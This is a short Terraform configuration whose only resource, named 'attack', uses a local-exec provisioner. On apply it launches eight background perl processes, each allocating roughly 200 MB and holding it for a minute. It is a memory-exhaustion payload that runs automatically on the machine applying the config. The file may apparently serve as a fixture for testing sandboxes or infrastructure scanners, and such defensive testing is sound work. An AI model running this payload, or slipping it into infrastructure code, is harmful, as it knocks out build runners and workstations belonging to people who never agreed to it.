resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      for i in 1 2 3 4 5 6 7 8; do perl -e '$x = q(a) x 200000000; sleep 60' & done; wait
    EOT
  }
}
